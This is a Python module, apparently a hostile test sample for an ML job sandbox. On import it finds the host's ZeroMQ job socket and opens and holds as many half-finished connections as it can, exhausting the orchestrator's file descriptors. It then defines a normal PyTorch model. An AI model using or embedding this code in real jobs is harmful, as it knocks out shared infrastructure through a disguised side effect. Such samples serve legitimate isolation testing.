"""Hostile: opens as many connections to the host's job socket as it can, and holds them.

Each connection that the host's ZeroMQ accepts is a file descriptor in the
orchestrator, so a model that holds a thousand half-finished handshakes costs
the trusted side a thousand descriptors. The job itself then behaves normally.
"""

import socket

import torch
from torch import nn

_HELD = []  # kept for the life of the process


def _job_socket() -> str:
    with open("/proc/self/cmdline", "rb") as f:
        args = f.read().split(b"\0")
    return next(a.decode() for a in args if a.endswith(b".sock"))  # the worker's own argument


def _hog(path: str) -> int:
    while True:
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        except OSError:  # our own descriptors ran out (nofile)
            return len(_HELD)
        try:
            s.connect(path)
            s.send(b"\xff")  # the first byte of a ZMTP greeting, and nothing more
        except OSError:
            s.close()
            return len(_HELD)
        _HELD.append(s)


print(f"HELD {_hog(_job_socket())}", flush=True)


class Net(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.fc = nn.Linear(64, 10)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.fc(x.flatten(1))
